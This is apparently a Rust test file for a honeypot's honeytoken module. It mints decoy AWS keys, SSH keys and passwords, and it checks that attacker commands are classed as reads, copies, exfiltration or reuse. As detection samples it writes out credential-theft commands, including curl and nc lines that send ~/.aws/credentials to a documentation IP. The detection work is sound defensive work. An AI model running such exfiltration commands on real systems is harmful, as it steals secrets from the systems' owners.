//! Tests of the honeytokens: minting, the per-session watch and the shared index.
use super::*;
use time::OffsetDateTime;

const KEY: &[u8] = b"sensor token key for the tests..";

fn session(n: i64) -> SessionId {
    SessionId::new_at(OffsetDateTime::UNIX_EPOCH + time::Duration::seconds(n))
}

#[test]
fn tokens_are_deterministic_unique_and_well_formed() {
    let s = session(1);
    let a = mint(KEY, s, "/root");
    assert_eq!(a, mint(KEY, s, "/root"));
    let b = mint(KEY, session(2), "/root");
    let c = mint(b"another key", s, "/root");
    for ((x, y), z) in a.iter().zip(&b).zip(&c) {
        assert_ne!(x.value, y.value, "{:?}", x.kind);
        assert_ne!(x.value, z.value, "{:?}", x.kind);
        assert!(x.content.contains(&x.value), "{:?}", x.kind);
        assert!(x.value.len() >= 16, "{:?} {}", x.kind, x.value);
    }
    let paths: Vec<&str> = a.iter().map(|t| t.path.as_str()).collect();
    assert_eq!(
        paths,
        [
            "/root/.aws/credentials",
            "/root/.env",
            "/root/.ssh/id_rsa",
            "/root/.bash_history",
            "/var/www/html/wp-config.php",
            "/root/.kube/config",
        ]
    );
    let aws = &a[0];
    assert!(aws.value.starts_with("AKIA") && aws.value.len() == 20);
    assert!(aws.value[4..].bytes().all(|b| UPPER32.contains(&b)));
    let key = &a[2].content;
    assert!(key.starts_with(
        "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ"
    ));
    assert!(key.lines().skip(1).take(5).all(|l| l.len() == 70));
    let kube = &a[5].value;
    assert_eq!(kube.matches('.').count(), 2);
    assert!(kube.starts_with("eyJhbGciOiJSUzI1NiIs"));
    assert_eq!(
        mint(KEY, s, "/home/deploy/")[0].path,
        "/home/deploy/.aws/credentials"
    );
}

#[test]
fn reads_searches_copies_sends_and_uses_are_told_apart() {
    let toks = mint(KEY, session(1), "/root");
    let aws = toks[0].clone();
    let env = toks[1].clone();
    let mut w = TokenWatch::new(toks);
    let out = format!("[default]\naws_access_key_id = {}\n", aws.value);
    let hits = w.on_output("cat .aws/credentials", &out);
    assert_eq!(hits.len(), 1);
    assert_eq!(
        (hits[0].token, hits[0].action),
        (TokenKind::AwsKey, TokenAction::Read)
    );
    assert_eq!(hits[0].path, "/root/.aws/credentials");
    // Reported once per action.
    assert!(w.on_output("cat .aws/credentials", &out).is_empty());
    let hits = w.on_output("grep -r aws_secret / 2>/dev/null", &aws.needles[1]);
    assert_eq!(hits[0].action, TokenAction::Search);
    let hits = w.on_input("cp ~/.env /tmp/.e");
    assert_eq!(
        (hits[0].token, hits[0].action),
        (TokenKind::DotenvPassword, TokenAction::Copy)
    );
    let hits = w.on_input("curl -F f=@/root/.aws/credentials http://203.0.113.5/u");
    assert_eq!(hits[0].action, TokenAction::Exfiltrate);
    let hits = w.on_input(&format!("mysql -u shop_app -p'{}' shop", env.value));
    assert_eq!(
        (hits[0].token, hits[0].action),
        (TokenKind::DotenvPassword, TokenAction::Use)
    );
    // A send elsewhere on the line is not a send of the token; a pipe into one is.
    let mut w2 = TokenWatch::new(mint(KEY, session(3), "/root"));
    assert!(
        w2.on_input("cd /tmp; wget http://x/y; cat ~/.aws/credentials")
            .is_empty()
    );
    let hits = w2.on_input("cat ~/.aws/credentials | nc 203.0.113.5 80");
    assert_eq!(hits[0].action, TokenAction::Exfiltrate);
    // Mentions that are not copies or sends, and look-alike names, are nothing.
    assert!(w.on_input("ls -la .aws").is_empty());
    assert!(w.on_input("cp .envrc /tmp").is_empty());
    assert!(w.on_output("cat /etc/hostname", "debian\n").is_empty());
}

#[test]
fn the_index_links_sessions_and_stays_bounded() {
    let (s1, s2) = (session(1), session(2));
    let planted: Vec<PlantedToken> = mint(KEY, s1, "/root")
        .iter()
        .map(Honeytoken::planted)
        .collect();
    let mut idx = TokenIndex::new(100);
    idx.insert(s1, &planted);
    assert_eq!(idx.len(), 6);
    let pw = &planted[3].value;
    assert_eq!(
        idx.password(pw),
        Some(Reuse {
            kind: TokenKind::HistoryPassword,
            session: s1
        })
    );
    assert_eq!(idx.password("123456"), None);
    let line = format!("mysql -uroot -p{pw} -e 'show databases'");
    assert_eq!(idx.in_line(&line, s2).len(), 1);
    assert!(
        idx.in_line(&line, s1).is_empty(),
        "own tokens are not reuse"
    );
    let line = format!("export AWS_ACCESS_KEY_ID={}", planted[0].value);
    assert_eq!(idx.in_line(&line, s2)[0].kind, TokenKind::AwsKey);

    let mut small = TokenIndex::new(4);
    small.insert(s1, &planted);
    assert_eq!(small.len(), 4);
    assert_eq!(small.evicted(), 2);
    assert_eq!(small.password(&planted[0].value), None);
    assert!(small.password(&planted[5].value).is_some());
}
